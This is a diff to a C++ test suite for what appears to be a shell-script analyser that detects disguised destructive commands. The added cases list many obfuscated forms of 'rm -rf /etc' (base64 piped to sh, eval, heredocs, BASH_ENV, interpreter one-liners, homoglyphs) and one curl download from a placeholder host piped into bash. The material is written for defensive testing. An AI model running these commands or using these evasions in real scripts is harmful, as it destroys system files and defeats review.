@@ -67,12 +67,55 @@ TEST(ShellHostile, ReadsHugeTablesAndRecipes) {
 }
 
 TEST(ShellHostile, SeesThroughDisguise) {
-  for (const std::string_view line :
-       {"a=r; b=m; $a$b -rf /etc", "rm${IFS}-rf${IFS}/etc", "r\\m -r\\f /etc", "$'\\x72\\x6d' -rf /etc",
-        "{rm,-rf,/etc}", "bash <<< 'rm -rf /etc'", "echo cm0gLXJmIC9ldGMK | base64 -d | sh", "eval \"rm -rf /etc\"",
-        "C=(rm -rf /etc)\n\"${C[@]}\"", "x=rm; y=x; ${!y} -rf /etc", "printf -v c '%s' rm\n$c -rf /etc",
-        "X=RM; ${X,,} -rf /etc", "source <(echo 'rm -rf /etc')", "eval \"$(echo 'rm -rf /etc')\"",
-        "run() { \"$@\"; }\nrun rm -rf /etc", "coproc rm -rf /etc"}) {
+  for (const std::string_view line : {"a=r; b=m; $a$b -rf /etc",
+                                      "rm${IFS}-rf${IFS}/etc",
+                                      "r\\m -r\\f /etc",
+                                      "$'\\x72\\x6d' -rf /etc",
+                                      "{rm,-rf,/etc}",
+                                      "bash <<< 'rm -rf /etc'",
+                                      "echo cm0gLXJmIC9ldGMK | base64 -d | sh",
+                                      "eval \"rm -rf /etc\"",
+                                      "C=(rm -rf /etc)\n\"${C[@]}\"",
+                                      "x=rm; y=x; ${!y} -rf /etc",
+                                      "printf -v c '%s' rm\n$c -rf /etc",
+                                      "X=RM; ${X,,} -rf /etc",
+                                      "source <(echo 'rm -rf /etc')",
+                                      "eval \"$(echo 'rm -rf /etc')\"",
+                                      "run() { \"$@\"; }\nrun rm -rf /etc",
+                                      "coproc rm -rf /etc",
+                                      "a=(rm); a+=(-rf /etc); \"${a[@]}\"",
+                                      "a=(x rm -rf /etc); \"${a[@]:1}\"",
+                                      "a=(rm -rf /etc); eval \"${a[*]}\"",
+                                      "a=(rm -rf /etc); ${a[0]} ${a[1]} ${a[2]}",
+                                      "declare -A m=([go]=rm); ${m[go]} -rf /etc",
+                                      "set -- rm -rf /etc; \"$@\"",
+                                      "set -- r m; $1$2 -rf /etc",
+                                      "exec 3<<E\nrm -rf /etc\nE\nbash <&3",
+                                      "exec 3< <(echo 'rm -rf /etc')\nbash /dev/fd/3",
+                                      "cat > /tmp/x <<E\nrm -rf /etc\nE\nbash < /tmp/x",
+                                      "cat > /tmp/x <<E\nrm -rf /etc\nE\nssh h bash -s < /tmp/x",
+                                      "echo 'rm -rf /etc' | ssh h",
+                                      ". /dev/stdin <<E\nrm -rf /etc\nE",
+                                      "PROMPT_COMMAND='rm -rf /etc'",
+                                      "echo 'rm -rf /etc' > /tmp/x\nBASH_ENV=/tmp/x bash -c true",
+                                      "eval \"$(cat <<E\nrm -rf /etc\nE\n)\"",
+                                      "x=$(cat <<'E'\nrm -rf /etc\nE\n)\neval \"$x\"",
+                                      "read -r x <<< 'rm -rf /etc'\n$x",
+                                      "printf -v x '%s %s' rm '-rf /etc'\n$x",
+                                      "$(printf 'r%s' m) -rf /etc",
+                                      "$(printf '\\x72m') -rf /etc",
+                                      "printf '%b' 'rm -rf /etc' | sh",
+                                      "declare -n r=t; t=rm; $r -rf /etc",
+                                      "parallel rm -rf ::: /etc",
+                                      "script -qc 'rm -rf /etc' /dev/null",
+                                      "flock /tmp/l -c 'rm -rf /etc'",
+                                      "sh -c '\"$0\" \"$@\"' rm -rf /etc",
+                                      "sh -c 'rm -rf \"$1\"' _ /etc",
+                                      "perl -e 'system(\"r\".\"m -rf /etc\")'",
+                                      "perl -e 'system(join(\" \",\"rm\",\"-rf\",\"/etc\"))'",
+                                      "python3 -c 'import os; os.system(\" \".join([\"rm\",\"-rf\",\"/etc\"]))'",
+                                      "python3 -c 'import os; os.system(\"%s -rf /etc\" % \"rm\")'",
+                                      "lua -e 'os.execute(\"rm -rf /etc\")'"}) {
     const Model model = lowered("x.sh", std::string(line) + "\n");
     EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
       return o.program == "rm" && o.target.text == "/etc";
@@ -97,28 +140,53 @@ TEST(ShellHostile, SeesThroughWhatTheShellMakesOfWords) {
 }
 
 TEST(ShellHostile, SaysWhatNobodyCanRead) {
-  for (const std::string_view line :
-       {"bash <<< \"$(base64 -d <<< cm0=)\"", "bash < <(base64 -d x.b64)", "echo cm0= | base64 -d > x.sh\nsh x.sh",
-        "echo cm0= | base64 -d > ./x && chmod +x ./x && ./x",
-        "curl -fsSo /tmp/i.sh https://a.example/i\nbash /tmp/i.sh", "printf '\\162\\155 -rf /etc' | sh",
-        "printf '%b' 'r\\155 -rf /etc' | bash", "echo 'Xm -rf /etc' | sed s/X/r/ | sh", "list_of_commands | sh",
-        "awk '{print \"rm \" $1}' names | sh", "r\xe2\x80\x8bm -rf /etc", "/bin/r? -rf /etc",
-        "echo 'rm -rf /etc' | xargs -I{} sh -c '{}'", "c=$(make_name); $c -rf /etc",
-        "python3 -c \"import base64,os;os.system(base64.b64decode('cm0=').decode())\"",
-        "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0=\"))'"}) {
+  for (const std::string_view line : {"bash <<< \"$(base64 -d <<< cm0=)\"",
+                                      "bash < <(base64 -d x.b64)",
+                                      "echo cm0= | base64 -d > x.sh\nsh x.sh",
+                                      "echo cm0= | base64 -d > ./x && chmod +x ./x && ./x",
+                                      "curl -fsSo /tmp/i.sh https://a.example/i\nbash /tmp/i.sh",
+                                      "printf '\\162\\155 -rf /etc' | sh",
+                                      "printf '%b' 'r\\155 -rf /etc' | bash",
+                                      "echo 'Xm -rf /etc' | sed s/X/r/ | sh",
+                                      "list_of_commands | sh",
+                                      "awk '{print \"rm \" $1}' names | sh",
+                                      "r\xe2\x80\x8bm -rf /etc",
+                                      "/bin/r? -rf /etc",
+                                      "echo 'rm -rf /etc' | xargs -I{} sh -c '{}'",
+                                      "c=$(make_name); $c -rf /etc",
+                                      "python3 -c \"import base64,os;os.system(base64.b64decode('cm0=').decode())\"",
+                                      "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0=\"))'",
+                                      "r\xd0\xbc -rf /etc",
+                                      "python3 -c 'import os; os.system(chr(114)+chr(109)+\" -rf /etc\")'",
+                                      "/b?n/rm -rf /etc; /bin/r* -rf /etc",
+                                      "python3 -c 'import shutil; getattr(shutil, \"rm\" + \"tree\")(\"/etc\")'",
+                                      "echo '$C /etc' | C=rm envsubst | sh",
+                                      "awk '{print \"rm \" $1 | \"sh\"}' names"}) {
     const Model model = lowered("x.sh", std::string(line) + "\n");
     EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
       return o.action == "unread" && o.object.ends_with(" program");
     })) << line;
   }
-  for (const std::string_view line : {"echo 'ls' | sh", "cat <<E | sh\nls\nE", "printf 'a\\tb\\n'",
-                                      "echo cm0= | base64 -d > x.sh\ncat x.sh", "sh x.sh", "names | sort | uniq",
-                                      "python3 -c \"import base64; print(base64.b64decode('cm0='))\"", "ls /bin/r?"}) {
+  for (const std::string_view line :
+       {"echo 'ls' | sh", "cat <<E | sh\nls\nE", "printf 'a\\tb\\n'", "echo cm0= | base64 -d > x.sh\ncat x.sh",
+        "sh x.sh", "names | sort | uniq", "python3 -c \"import base64; print(base64.b64decode('cm0='))\"", "ls /bin/r?",
+        "d\xc3\xa9ploy x", "\xd1\x81\xd1\x82\xd0\xb0\xd1\x80\xd1\x82 x", "awk '{print $1}' names"}) {
     const Model model = lowered("x.sh", std::string(line) + "\n");
     EXPECT_TRUE(std::none_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
       return o.action == "unread";
     })) << line;
   }
+}
+
+TEST(ShellHostile, BoundsArraysAndWhatIsPrinted) {
+  (void)lowered("x.sh", "a=(" + repeated("x ", 50'000) + ")\n\"${a[@]}\"\n");
+  (void)lowered("x.sh",
+                "a=(\"${a[@]}\")\n\"${a[@]}\"\n" + repeated("a+=(x)\n", 2'000) + repeated("\"${a[@]:1}\"\n", 2'000));
+  (void)lowered("x.sh", "a=(\"${b[@]}\")\nb=(\"${a[@]}\")\n\"${a[@]}\" \"${b[*]}\"\n");
+  (void)lowered("x.sh", "x=$(printf '" + repeated("%s", 5'000) + "' a)\n$x\n");
+  (void)lowered("x.sh", "declare -n a=b\ndeclare -n b=a\nrm -rf $a\n");
+  (void)lowered("x.sh", repeated("ln -s /var x\n", 5'000) + repeated("rm -rf x/y\n", 5'000));
+  (void)lowered("x.sh", repeated("sh -c 'sh -c \"$1\" _ \"$2\"' _ a\n", 2'000));
 }
 
 TEST(ShellHostile, LooksBackAFewCommandsOnly) {
